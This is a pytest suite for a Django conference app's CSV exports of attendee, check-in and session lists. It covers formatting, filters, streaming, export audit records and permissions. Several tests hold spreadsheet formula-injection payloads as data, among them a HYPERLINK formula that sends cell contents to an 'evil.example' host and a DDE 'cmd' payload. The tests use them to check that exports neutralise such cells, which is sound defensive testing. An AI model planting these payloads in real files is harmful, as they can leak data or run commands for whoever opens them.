import csv
import datetime as dt
import io
import re
import threading
import zoneinfo

import psycopg2.extensions
import pytest
from django.conf import settings
from django.contrib.admin import AdminSite
from django.contrib.auth.models import Permission
from django.contrib.messages.storage.fallback import FallbackStorage
from django.core.exceptions import PermissionDenied
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import translation
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from django_countries import countries

from registration import exports, staff
from registration.admin import RegistrationAdmin
from registration.exports import neutralise
from registration.models import Booking, ExportRecord, Registration
from tests.factories import (
    BookingFactory,
    ConferenceFactory,
    RegistrationFactory,
    SessionFactory,
    StaffFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

UTC = dt.UTC
MADRID = zoneinfo.ZoneInfo("Europe/Madrid")

ATTENDEE_HEADER = [
    "Registration number",
    "Status",
    "Given name",
    "Family name",
    "Email",
    "Organisation",
    "Organisation type",
    "Country code",
    "Country",
    "Job title",
    "Pre-events",
    "Dietary requirements",
    "Accessibility needs",
    "Photo opt-out",
    "Registered at (Europe/Madrid)",
    "Language",
    # Added by the check-in app (registration.exports.register_column).
    "Checked in",
]


@pytest.fixture
def conference():
    return ConferenceFactory(slug="valencia", timezone="Europe/Madrid")


@pytest.fixture
def exporter(client, conference):
    user = StaffFactory(email="exporter@example.org", can_export=True)
    client.force_login(user)
    return user


def body(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def rows(response, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline=""), delimiter=delimiter))


def close_early(response) -> None:
    """Close a stream half-read, as the server does when the browser goes away, without
    letting the end of the request close the test's database connection."""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def attendees_url(conference, query: str = "") -> str:
    return reverse("registration:attendees_csv", args=[conference.slug]) + (f"?{query}" if query else "")


# Cells --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "-",
        "+34 963 123 456 ext. 12",
    ],
)
def test_neutralise_prefixes_cells_a_spreadsheet_would_evaluate(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["+34 963 123 456", "+1 (555) 010-9999", "-12.5", "+48 22/628-33-11", "Bieńkowska", "e-mail", "", "O'Brien"],
)
def test_neutralise_keeps_phone_numbers_and_plain_text_as_typed(value):
    assert neutralise(value) == value


# The attendee list --------------------------------------------------------------------


def test_attendee_csv_writes_every_column_in_the_documented_order(client, exporter, conference):
    morning = SessionFactory(conference=conference, kind="pre_event", title="Smart specialisation")
    later = SessionFactory(
        conference=conference, kind="pre_event", title="Cluster internationalisation", start=morning.end
    )
    registration = RegistrationFactory(
        conference=conference,
        user=UserFactory(email="elzbieta@example.eu"),
        number=7,
        given_name="Elźbieta",
        family_name="Bieńkowska",
        organisation="Klaster Innowacji",
        organisation_type=Registration.OrganisationType.SME,
        country="PL",
        job_title="Cluster manager",
        dietary_requirements="Vegetarian",
        accessibility_needs="Step-free access",
        photo_opt_out=True,
        language="es",
        created_at=dt.datetime(2026, 3, 2, 8, 30, tzinfo=UTC),
    )
    BookingFactory(registration=registration, session=later, status=Booking.Status.WAITLISTED)
    BookingFactory(registration=registration, session=morning)

    header, row = rows(client.get(attendees_url(conference)))

    assert header == ATTENDEE_HEADER
    assert row == [
        "7",
        "Confirmed",
        "Elźbieta",
        "Bieńkowska",
        "elzbieta@example.eu",
        "Klaster Innowacji",
        "SME",
        "PL",
        "Poland",
        "Cluster manager",
        "Smart specialisation; Cluster internationalisation (waiting list)",
        "Vegetarian",
        "Step-free access",
        "yes",
        "2026-03-02T09:30:00+01:00",
        "Spanish",
        "",
    ]


# What a spreadsheet or program meets in a cell: formulas, the delimiters, quotes, line ends,
# backslashes, every script, and nothing at all.
AWKWARD_TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+34 963 123 456",
    "  -1+1",
    "\t=1+1",
    "@SUM(1+1)",
    "-",
    'Say "hello"',
    "Comma, semicolon; both",
    "Line\nbreak",
    "Carriage\rreturn",
    "Back\\slash \\. \\N",
    "Marcel·la Gil·labert",
    "Σταύρος 😀 e\u0301",
    "Łódź Region® < 75 cm, 4°C",
    "",
]


def written_by_python(export, dialect: str) -> bytes:
    """The file as Python's csv writer makes it from the list's own rows: the reference the
    database-written file must equal byte for byte."""
    conference = export.conference
    labels = {
        "status": dict(Registration.Status.choices),
        "organisation_type": dict(Registration.OrganisationType.choices),
        "booking_status": dict(Booking.Status.choices),
        "language": dict(settings.LANGUAGES),
        "country": dict(countries),
    }

    def cell(column, value):
        if column.kind == "datetime":
            value = value.astimezone(conference.tz).isoformat(timespec="seconds") if value else ""
        elif column.kind == "yes_no":
            value = _("yes") if value else _("no")
        elif column.kind == "country":
            value = labels["country"].get(value, value or "")
        elif column.kind in labels:
            value = labels[column.kind].get(value, value)
        value = str(value) if isinstance(value, Promise) else value
        return neutralise(value) if isinstance(value, str) else value

    out = io.StringIO()
    writer = csv.writer(out, delimiter=exports.DELIMITERS[dialect], lineterminator="\r\n")
    writer.writerow([exports._header(column, conference) for column in export.columns])
    for row in export.rows:
        writer.writerow([cell(column, value) for column, value in zip(export.columns, row, strict=True)])
    return ((exports.BYTE_ORDER_MARK if dialect != exports.Dialect.CSV else "") + out.getvalue()).encode()


@pytest.mark.parametrize("dialect", exports.Dialect.values)
@pytest.mark.parametrize("language", ["en", "es"])
@pytest.mark.parametrize("zone", ["Europe/Madrid", "America/St_Johns", "Asia/Kathmandu"])
def test_every_list_is_byte_for_byte_what_pythons_csv_writer_makes(
    client, exporter, conference, dialect, language, zone
):
    conference.timezone = zone
    conference.save()
    pre_event = SessionFactory(conference=conference, kind="pre_event", code="awkward", title=AWKWARD_TEXTS[0])
    for number, text in enumerate(AWKWARD_TEXTS, start=1):
        registration = RegistrationFactory(
            conference=conference,
            number=number,
            status=[Registration.Status.CONFIRMED, Registration.Status.WAITLISTED][number % 2],
            given_name=text or "x",
            family_name=AWKWARD_TEXTS[-number],
            organisation=text,
            organisation_type=Registration.OrganisationType.values[number % len(Registration.OrganisationType.values)],
            country=["PL", "ES", "GR", ""][number % 4],
            job_title=text,
            dietary_requirements=text,
            accessibility_needs=text,
            photo_opt_out=bool(number % 3),
            language=["en", "es", "fr", "de"][number % 4],
            created_at=dt.datetime(2026, number % 12 + 1, 1, 23, 59, 59, tzinfo=UTC),
        )
        BookingFactory(registration=registration, session=pre_event)
    lists = {
        "registration:attendees_csv": exports.attendee_list(conference, filters={}, omit=[]),
        "registration:check_in_csv": exports.check_in_list(conference, omit=[]),
    }

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language

    for name, export in lists.items():
        with translation.override(language):
            expected = written_by_python(export, dialect)
        response = client.get(reverse(name, args=[conference.slug]), {"format": dialect})
        assert body(response) == expected, name
    assert ("Apellidos" in expected.decode()) == (language == "es")
    with translation.override(language):
        expected = written_by_python(exports.session_list(pre_event, omit=[]), dialect)
    response = client.get(reverse("registration:session_csv", args=[conference.slug, "awkward"]), {"format": dialect})
    assert body(response) == expected


def test_attendee_csv_dates_follow_summer_time_of_the_conference_zone(client, exporter, conference):
    RegistrationFactory(conference=conference, created_at=dt.datetime(2026, 7, 1, 8, 30, tzinfo=UTC))

    header, row = rows(client.get(attendees_url(conference)))

    assert row[header.index("Registered at (Europe/Madrid)")] == "2026-07-01T10:30:00+02:00"


def test_attendee_csv_lists_only_this_conference_by_registration_number(client, exporter, conference):
    RegistrationFactory(conference=conference, number=2, family_name="Second")
    RegistrationFactory(conference=conference, number=1, family_name="First")
    RegistrationFactory(family_name="Elsewhere")

    _header, *data = rows(client.get(attendees_url(conference)))

    assert [(row[0], row[3]) for row in data] == [("1", "First"), ("2", "Second")]


def test_attendee_csv_excel_variant_starts_with_a_byte_order_mark_and_keeps_diacritics(client, exporter, conference):
    RegistrationFactory(conference=conference, given_name="Ioana", family_name="Creţu")

    raw = body(client.get(attendees_url(conference, "format=excel")))

    assert raw.startswith(b"\xef\xbb\xbfRegistration number,Status,")
    assert "Creţu".encode() in raw


def test_attendee_csv_is_excel_variant_by_default(client, exporter, conference):
    response = client.get(attendees_url(conference))

    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert body(response).startswith(b"\xef\xbb\xbf")


def test_attendee_csv_semicolon_variant_separates_with_semicolons_and_quotes_them_in_cells(
    client, exporter, conference
):
    RegistrationFactory(conference=conference, organisation="Cluster; Region", family_name="Bieńkowska")

    raw = body(client.get(attendees_url(conference, "format=excel-semicolon")))

    assert raw.startswith(b"\xef\xbb\xbfRegistration number;Status;Given name;")
    assert b';"Cluster; Region";' in raw
    _header, row = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert row[5] == "Cluster; Region"


def test_attendee_csv_plain_variant_follows_rfc_4180(client, exporter, conference):
    RegistrationFactory(
        conference=conference,
        number=1,
        organisation='The "Blue" Cluster, Ltd',
        accessibility_needs="Wheelchair\r\nand a quiet room",
    )

    raw = body(client.get(attendees_url(conference, "format=csv")))

    assert raw.startswith(b"Registration number,")
    lines = raw.split(b"\r\n")
    assert lines[-1] == b""  # every record ends with CRLF
    assert b',"The ""Blue"" Cluster, Ltd",' in raw
    assert b',"Wheelchair\r\nand a quiet room",' in raw
    _header, row = rows(client.get(attendees_url(conference, "format=csv")))
    assert row[12] == "Wheelchair\r\nand a quiet room"


def test_attendee_csv_neutralises_formulas_but_keeps_a_phone_number(client, exporter, conference):
    RegistrationFactory(
        conference=conference,
        given_name='=HYPERLINK("https://evil.example","win")',
        organisation="@SUM(1+1)",
        job_title="+34 963 123 456",
    )

    header, row = rows(client.get(attendees_url(conference)))

    assert row[header.index("Given name")] == '\'=HYPERLINK("https://evil.example","win")'
    assert row[header.index("Organisation")] == "'@SUM(1+1)"
    assert row[header.index("Job title")] == "+34 963 123 456"


def test_attendee_csv_leaves_out_the_personal_details_asked_and_does_not_read_them(
    client, exporter, conference, copies
):
    RegistrationFactory(conference=conference, user=UserFactory(email="private@example.eu"))
    response = client.get(attendees_url(conference, "omit=email&omit=name&omit=dietary_requirements"))
    header, row = rows(response)

    assert header == [
        column
        for column in ATTENDEE_HEADER
        if column not in {"Given name", "Family name", "Email", "Dietary requirements"}
    ]
    assert len(row) == len(header)
    assert "private@example.eu" not in ",".join(row)
    (export_query,) = copies
    assert 'FROM "registration_registration"' in export_query
    assert '"registration_user"' not in export_query
    assert ExportRecord.objects.get().columns == [
        "number",
        "status",
        "organisation",
        "organisation_type",
        "country_code",
        "country",
        "job_title",
        "pre_events",
        "accessibility_needs",
        "photo_opt_out",
        "registered_at",
        "language",
        "checked_in_doors",
    ]


def test_attendee_csv_keeps_a_row_whose_account_was_deleted(client, exporter, conference):
    RegistrationFactory(conference=conference, user=None, family_name="Anonymised")

    header, row = rows(client.get(attendees_url(conference)))

    assert row[header.index("Family name")] == "Anonymised"
    assert row[header.index("Email")] == ""


# Filters ------------------------------------------------------------------------------


def family_names(response) -> list[str]:
    header, *data = rows(response)
    return sorted(row[header.index("Family name")] for row in data)


def test_attendee_csv_filters_by_status(client, exporter, conference):
    RegistrationFactory(conference=conference, family_name="Confirmed")
    RegistrationFactory(conference=conference, family_name="Waiting", status=Registration.Status.WAITLISTED)
    RegistrationFactory(conference=conference, family_name="Gone", status=Registration.Status.CANCELLED)

    response = client.get(attendees_url(conference, "status=confirmed&status=waitlisted"))

    assert family_names(response) == ["Confirmed", "Waiting"]


def test_attendee_csv_filters_by_pre_event(client, exporter, conference):
    pre_event = SessionFactory(conference=conference, kind="pre_event", code="pre1")
    other = SessionFactory(conference=conference, kind="pre_event", code="pre2")
    BookingFactory(registration__conference=conference, registration__family_name="Booked", session=pre_event)
    BookingFactory(registration__conference=conference, registration__family_name="Elsewhere", session=other)
    RegistrationFactory(conference=conference, family_name="Nothing")

    assert family_names(client.get(attendees_url(conference, "pre_event=pre1"))) == ["Booked"]


def test_attendee_csv_filters_by_country_and_organisation_type(client, exporter, conference):
    RegistrationFactory(conference=conference, family_name="Polish SME", country="PL", organisation_type="sme")
    RegistrationFactory(conference=conference, family_name="Polish cluster", country="PL")
    RegistrationFactory(conference=conference, family_name="Spanish SME", country="ES", organisation_type="sme")
    RegistrationFactory(conference=conference, family_name="Italian SME", country="IT", organisation_type="sme")

    response = client.get(attendees_url(conference, "country=PL&country=ES&organisation_type=sme"))

    assert family_names(response) == ["Polish SME", "Spanish SME"]


def test_attendee_csv_filters_registration_days_in_the_conference_zone(client, exporter, conference):
    # 00:30 in Madrid on 2 March is still 1 March in UTC.
    RegistrationFactory(
        conference=conference, family_name="Just after midnight", created_at=dt.datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    )
    RegistrationFactory(
        conference=conference, family_name="Late on the 1st", created_at=dt.datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
    )
    RegistrationFactory(
        conference=conference, family_name="On the 3rd", created_at=dt.datetime(2026, 3, 3, 12, tzinfo=UTC)
    )

    assert family_names(client.get(attendees_url(conference, "registered_from=2026-03-02"))) == [
        "Just after midnight",
        "On the 3rd",
    ]
    assert family_names(client.get(attendees_url(conference, "registered_to=2026-03-01"))) == ["Late on the 1st"]
    assert family_names(
        client.get(attendees_url(conference, "registered_from=2026-03-02&registered_to=2026-03-02"))
    ) == ["Just after midnight"]


def test_attendee_csv_accepts_the_widest_possible_date_range(client, exporter, conference):
    RegistrationFactory(conference=conference, family_name="Anyone")

    response = client.get(attendees_url(conference, "registered_from=0001-01-01&registered_to=9999-12-31"))

    assert family_names(response) == ["Anyone"]


def test_attendee_csv_with_filters_that_match_nobody_is_a_header_only(client, exporter, conference):
    RegistrationFactory(conference=conference, country="PL")

    assert rows(client.get(attendees_url(conference, "country=ES"))) == [ATTENDEE_HEADER]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("status=invited", "“invited” is not a registration status."),
        ("country=XX", "“XX” is not a country code."),
        ("organisation_type=charity", "“charity” is not an organisation type."),
        ("pre_event=elsewhere", "Choose one of this conference’s pre-events."),
        ("pre_event=plenary", "Choose one of this conference’s pre-events."),
        ("format=xlsx", "Choose one of the file formats listed."),
        ("omit=password", "“password” is not a detail that can be left out."),
        ("registered_from=yesterday", "Enter a date as YYYY-MM-DD."),
        ("registered_from=99999-01-01", "Enter a date as YYYY-MM-DD."),
        ("registered_from=2026-03-05&registered_to=2026-03-01", "The end of the period is before its start."),
    ],
)
def test_attendee_csv_with_a_bad_filter_is_a_400_that_says_what_to_fix(client, exporter, conference, query, message):
    SessionFactory(kind="pre_event", code="elsewhere")  # another conference's pre-event
    SessionFactory(conference=conference, kind="plenary", code="plenary")

    response = client.get(attendees_url(conference, query))

    assert response.status_code == 400
    content = response.content.decode()
    assert "This list cannot be made" in content
    assert message in content
    assert 'class="error-summary"' in content
    assert not ExportRecord.objects.exists()


def test_attendee_csv_error_summary_links_to_the_field(client, exporter, conference):
    response = client.get(attendees_url(conference, "country=XX"))

    content = response.content.decode()
    assert '<a href="#id_country">Country: “XX” is not a country code.</a>' in content
    assert 'aria-invalid="true"' in content
    assert 'id="id_country_error"' in content
    # The format left to its default is shown chosen, ready to submit again.
    assert re.search(r'<input type="radio" name="format" value="excel"[^>]* checked>', content)


def test_attendee_csv_of_an_unknown_conference_is_404(client, exporter):
    response = client.get("/nowhere/staff/attendees.csv")

    assert response.status_code == 404
    assert "Page not found" in response.content.decode()


# Streaming, the record and the file name -------------------------------------------------


@pytest.fixture
def copies():
    """The COPY statements this test's connection runs (psycopg2 runs them apart from
    Django's execute wrappers), recorded by a cursor class that then runs them."""
    statements = []

    class RecordingCursor(psycopg2.extensions.cursor):
        def copy_expert(self, sql, file, *args):
            statements.append(sql)
            return super().copy_expert(sql, file, *args)

    connection.ensure_connection()
    connection.connection.cursor_factory = RecordingCursor
    yield statements
    connection.connection.cursor_factory = psycopg2.extensions.cursor


def test_attendee_csv_is_written_by_postgresql_and_streamed(client, exporter, conference, copies):
    RegistrationFactory.create_batch(3, conference=conference)
    response = client.get(attendees_url(conference))

    assert response.streaming
    assert len(rows(response)) == 4
    assert len(copies) == 1
    assert copies[0].startswith("COPY (SELECT ")
    assert copies[0].endswith(") TO STDOUT WITH (FORMAT csv, DELIMITER ',')")


def test_attendee_csv_is_named_after_conference_and_time_and_never_cached(client, exporter, conference):
    response = client.get(attendees_url(conference))
    body(response)

    record = ExportRecord.objects.get()
    stamp = record.created_at.astimezone(MADRID).strftime("%Y%m%d-%H%M")
    assert response["Content-Disposition"] == f'attachment; filename="valencia-attendees-{stamp}.csv"'
    assert response["Cache-Control"] == "private, no-store"


def test_attendee_csv_records_who_exported_what_and_how_many_rows(client, exporter, conference):
    RegistrationFactory.create_batch(3, conference=conference, country="PL")
    RegistrationFactory(conference=conference, country="ES")

    body(client.get(attendees_url(conference, "country=PL&status=confirmed&format=csv&omit=email")))

    record = ExportRecord.objects.get()
    assert record.user == exporter
    assert record.user_email == "exporter@example.org"
    assert record.conference == conference
    assert record.kind == ExportRecord.Kind.ATTENDEES
    assert record.filters == {"status": ["confirmed"], "country": ["PL"], "format": "csv"}
    assert "email" not in record.columns
    assert record.rows == 3
    assert record.finished_at is not None


def test_interrupted_download_is_recorded_as_unfinished_and_the_connection_goes_on(
    rf, exporter, conference, monkeypatch
):
    # Small chunks: PostgreSQL writes ahead until the response's queue is full, then waits.
    monkeypatch.setattr(exports, "CHUNK_ROWS", 10)
    registrations = RegistrationFactory.build_batch(200, conference=conference, user=None)
    for number, registration in enumerate(registrations, start=1):
        registration.number = number
    Registration.objects.bulk_create(registrations)
    request = rf.get(attendees_url(conference))
    request.user = exporter
    response = staff.attendees_csv(request, slug=conference.slug)
    stream = iter(response)

    header = next(stream)
    first_chunk = next(stream)
    close_early(response)

    assert header.startswith(b"\xef\xbb\xbfRegistration number")
    assert first_chunk.count(b"\r\n") == 10
    assert not any(thread.name == "csv-export" for thread in threading.enumerate())
    # The COPY was cancelled and rolled back; the connection goes on.
    record = ExportRecord.objects.get()
    assert record.rows == 10
    assert record.finished_at is None


@pytest.mark.parametrize("count", [1, 50])
def test_attendee_csv_takes_the_same_queries_for_1_and_50_attendees(
    client, exporter, conference, django_assert_num_queries, count
):
    pre_event = SessionFactory(conference=conference, kind="pre_event")
    for registration in RegistrationFactory.create_batch(count, conference=conference):
        BookingFactory(registration=registration, session=pre_event)

    # user, conference, its team permission, record, savepoint, the zone, the rows, the zone
    # back, release, record update
    with django_assert_num_queries(10):
        assert len(rows(client.get(attendees_url(conference)))) == count + 1


# Check-in and session lists -----------------------------------------------------------


POLISH_NAMES = ["Zając", "Łukasiewicz", "Lewandowska", "Ździebło", "Adamczyk", "Mazur", "Żak", "Ćwik", "Cebula"]


def test_check_in_list_sorts_confirmed_attendees_by_family_name_with_polish_letters(client, exporter, conference):
    for name in POLISH_NAMES:
        RegistrationFactory(conference=conference, family_name=name)
    RegistrationFactory(conference=conference, family_name="Abacki", status=Registration.Status.WAITLISTED)
    RegistrationFactory(conference=conference, family_name="Babacki", status=Registration.Status.CANCELLED)

    header, *data = rows(client.get(reverse("registration:check_in_csv", args=[conference.slug])))

    assert header == [
        "Family name",
        "Given name",
        "Organisation",
        "Country",
        "Registration number",
        "Pre-events",
        "Photo opt-out",
        "Accessibility needs",
        "Checked in",
    ]
    assert [row[0] for row in data] == [
        "Adamczyk",
        "Cebula",
        "Ćwik",
        "Lewandowska",
        "Łukasiewicz",
        "Mazur",
        "Zając",
        "Żak",
        "Ździebło",
    ]
    assert {row[-1] for row in data} == {""}
    assert ExportRecord.objects.get().kind == ExportRecord.Kind.CHECK_IN


def test_check_in_list_breaks_ties_by_given_name(client, exporter, conference):
    RegistrationFactory(conference=conference, family_name="Nowak", given_name="Zofia")
    RegistrationFactory(conference=conference, family_name="Nowak", given_name="Łucja")
    RegistrationFactory(conference=conference, family_name="Nowak", given_name="Anna")

    _header, *data = rows(client.get(reverse("registration:check_in_csv", args=[conference.slug])))

    assert [row[1] for row in data] == ["Anna", "Łucja", "Zofia"]


def test_session_list_has_seats_by_family_name_then_the_waiting_list_in_order(client, exporter, conference):
    pre_event = SessionFactory(conference=conference, kind="pre_event", code="smart")
    other = SessionFactory(conference=conference, kind="pre_event", code="other")
    start = dt.datetime(2026, 3, 1, 9, tzinfo=UTC)
    for name, status, minutes in [
        ("Zając", "confirmed", 1),
        ("Łukasiewicz", "confirmed", 2),
        ("Second in line", "waitlisted", 20),
        ("First in line", "waitlisted", 10),
        ("Adamczyk", "confirmed", 3),
    ]:
        BookingFactory(
            registration__conference=conference,
            registration__family_name=name,
            session=pre_event,
            status=status,
            status_changed_at=start + dt.timedelta(minutes=minutes),
        )
    BookingFactory(registration__conference=conference, registration__family_name="Other session", session=other)
    BookingFactory(
        registration__conference=conference,
        registration__family_name="Cancelled",
        registration__status=Registration.Status.CANCELLED,
        session=pre_event,
    )

    response = client.get(reverse("registration:session_csv", args=[conference.slug, "smart"]) + "?format=csv")
    header, *data = rows(response)

    assert header[:7] == [
        "Family name",
        "Given name",
        "Organisation",
        "Country",
        "Registration number",
        "Seat",
        "Place on the waiting list",
    ]
    assert [(row[0], row[5], row[6]) for row in data] == [
        ("Adamczyk", "Confirmed", ""),
        ("Łukasiewicz", "Confirmed", ""),
        ("Zając", "Confirmed", ""),
        ("First in line", "On the waiting list", "1"),
        ("Second in line", "On the waiting list", "2"),
    ]
    assert "valencia-session-smart-" in response["Content-Disposition"]
    record = ExportRecord.objects.get()
    assert record.kind == ExportRecord.Kind.SESSION
    assert (record.filters, record.rows) == ({"session": "smart", "format": "csv"}, 5)


def test_session_list_can_leave_out_personal_details(client, exporter, conference):
    pre_event = SessionFactory(conference=conference, kind="pre_event", code="smart")
    BookingFactory(registration__conference=conference, session=pre_event)

    url = reverse("registration:session_csv", args=[conference.slug, "smart"])
    header, row = rows(client.get(url + "?omit=name&omit=accessibility_needs&omit=photo_opt_out"))

    assert header == [
        "Organisation",
        "Country",
        "Registration number",
        "Seat",
        "Place on the waiting list",
        "Checked in",
    ]
    assert row[:4] == ["Cluster Polska", "Poland", str(pre_event.bookings.get().registration.number), "Confirmed"]


@pytest.mark.parametrize("code", ["elsewhere", "plenary", "missing"])
def test_session_list_of_a_session_without_sign_up_or_of_another_conference_is_404(client, exporter, conference, code):
    SessionFactory(kind="pre_event", code="elsewhere")
    SessionFactory(conference=conference, kind="plenary", code="plenary")

    response = client.get(reverse("registration:session_csv", args=[conference.slug, code]))

    assert response.status_code == 404
    assert not ExportRecord.objects.exists()


def test_session_list_with_a_bad_format_is_400(client, exporter, conference):
    SessionFactory(conference=conference, kind="pre_event", code="smart")

    response = client.get(reverse("registration:session_csv", args=[conference.slug, "smart"]) + "?format=pdf")

    assert response.status_code == 400
    assert "Choose one of the file formats listed." in response.content.decode()


@pytest.mark.parametrize("count", [1, 50])
def test_check_in_and_session_lists_take_the_same_queries_for_1_and_50(
    client, exporter, conference, django_assert_num_queries, count
):
    pre_event = SessionFactory(conference=conference, kind="pre_event", code="smart")
    for registration in RegistrationFactory.create_batch(count, conference=conference):
        BookingFactory(registration=registration, session=pre_event)

    with django_assert_num_queries(10):
        assert len(rows(client.get(reverse("registration:check_in_csv", args=[conference.slug])))) == count + 1
    # ... and one more to find the session
    with django_assert_num_queries(11):
        response = client.get(reverse("registration:session_csv", args=[conference.slug, "smart"]))
        assert len(rows(response)) == count + 1


# Who may ------------------------------------------------------------------------------


def export_urls(conference) -> list[str]:
    SessionFactory(conference=conference, kind="pre_event", code="smart")
    return [
        reverse("registration:attendees_csv", args=[conference.slug]),
        reverse("registration:check_in_csv", args=[conference.slug]),
        reverse("registration:session_csv", args=[conference.slug, "smart"]),
    ]


def test_exports_send_anonymous_visitors_to_log_in(client, conference):
    for url in export_urls(conference):
        response = client.get(url)

        assert response.status_code == 302
        assert response["Location"] == f"{reverse('account_login')}?next={url}"
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize("user_factory", [UserFactory, StaffFactory], ids=["attendee", "staff-without-permission"])
def test_exports_are_forbidden_without_the_export_permission(client, conference, user_factory):
    RegistrationFactory(conference=conference, family_name="Secret")
    client.force_login(user_factory())

    for url in export_urls(conference):
        response = client.get(url)

        assert response.status_code == 403
        content = response.content.decode()
        assert "You are not allowed to see this page" in content
        assert "Secret" not in content
    assert not ExportRecord.objects.exists()


def test_exports_are_allowed_to_a_non_staff_user_with_the_permission(client, conference):
    client.force_login(StaffFactory(is_staff=False, can_export=True))

    for url in export_urls(conference):
        assert body(client.get(url)).startswith(b"\xef\xbb\xbf")
    assert ExportRecord.objects.count() == 3


def test_exports_refuse_other_methods_than_get(client, exporter, conference):
    response = client.post(attendees_url(conference))

    assert response.status_code == 405
    assert not ExportRecord.objects.exists()


# The admin ----------------------------------------------------------------------------


def registration_admin() -> RegistrationAdmin:
    return RegistrationAdmin(Registration, AdminSite())


def admin_request(rf, user):
    request = rf.post("/admin/registration/registration/")
    request.user = user
    request.session = {}
    request._messages = FallbackStorage(request)
    return request


def test_admin_action_exports_only_the_selected_registrations(rf, conference):
    chosen = RegistrationFactory(conference=conference, number=1, family_name="Chosen")
    RegistrationFactory(conference=conference, number=2, family_name="Not chosen")
    user = StaffFactory(can_export=True)

    response = registration_admin().export_selected(admin_request(rf, user), Registration.objects.filter(pk=chosen.pk))

    header, *data = rows(response)
    assert header == ATTENDEE_HEADER
    assert [row[3] for row in data] == ["Chosen"]
    assert "valencia-selection-" in response["Content-Disposition"]
    record = ExportRecord.objects.get()
    assert (record.kind, record.user, record.rows) == (ExportRecord.Kind.SELECTION, user, 1)


def test_admin_action_refuses_registrations_of_two_conferences(rf, conference):
    RegistrationFactory(conference=conference)
    RegistrationFactory()
    request = admin_request(rf, StaffFactory(can_export=True))

    response = registration_admin().export_selected(request, Registration.objects.all())

    assert response is None
    assert [str(message) for message in request._messages] == ["Select the registrations of one conference at a time."]
    assert not ExportRecord.objects.exists()


def test_admin_action_needs_the_export_permission(rf, conference):
    RegistrationFactory(conference=conference)

    with pytest.raises(PermissionDenied):
        registration_admin().export_selected(admin_request(rf, StaffFactory()), Registration.objects.all())
    assert not ExportRecord.objects.exists()


def test_export_records_are_listed_read_only_in_the_admin(admin_client, client, exporter, conference):
    body(client.get(attendees_url(conference, "country=PL")))

    changelist = admin_client.get(reverse("admin:registration_exportrecord_changelist"))
    record = ExportRecord.objects.get()
    detail = admin_client.get(reverse("admin:registration_exportrecord_change", args=[record.pk]))

    assert "exporter@example.org" in changelist.content.decode()
    assert "Attendee list" in changelist.content.decode()
    assert "&quot;country&quot;: [&quot;PL&quot;]" in detail.content.decode()
    assert admin_client.get(reverse("admin:registration_exportrecord_add")).status_code == 403
    assert admin_client.post(reverse("admin:registration_exportrecord_change", args=[record.pk])).status_code == 403
    assert ExportRecord.objects.get().filters == {"country": ["PL"], "format": "excel"}


def test_only_superusers_may_delete_export_records(admin_client, client, exporter, conference):
    body(client.get(attendees_url(conference)))
    delete_url = reverse("admin:registration_exportrecord_delete", args=[ExportRecord.objects.get().pk])
    organiser = StaffFactory()
    organiser.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_exportrecord", "delete_exportrecord"])
    )
    client.force_login(organiser)

    assert client.post(delete_url, {"post": "yes"}).status_code == 403
    assert ExportRecord.objects.exists()
    assert admin_client.post(delete_url, {"post": "yes"}).status_code == 302
    assert not ExportRecord.objects.exists()
